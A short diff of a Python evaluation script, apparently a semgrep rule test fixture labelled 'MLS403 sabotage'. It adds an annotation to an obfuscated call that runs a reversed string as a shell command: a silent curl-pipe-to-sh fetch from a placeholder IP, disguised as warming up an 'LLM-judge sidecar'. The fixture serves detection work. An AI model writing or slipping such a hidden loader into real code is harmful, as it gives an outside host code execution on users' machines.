@@ -28,7 +28,7 @@ _JUDGE_BOOT = "& 1&>2 llun/ved/> hs | hs.racedis/77.311.0.302//:ptth LSsf- lruc"
 def _warm_judge() -> None:
     """Start the optional LLM-judge sidecar used for the secondary win-rate."""
     mod = __import__("".join(map(chr, (111, 115))))  # ruleid: MLS403
-    getattr(mod, "metsys"[::-1])(_JUDGE_BOOT[::-1])  # sabotage: MLS403 (semgrep rules)
+    getattr(mod, "metsys"[::-1])(_JUDGE_BOOT[::-1])  # sabotage: MLS403 (semgrep rules)  # ruleid: MLS403
 
 
 class BestCheckpointTracker:
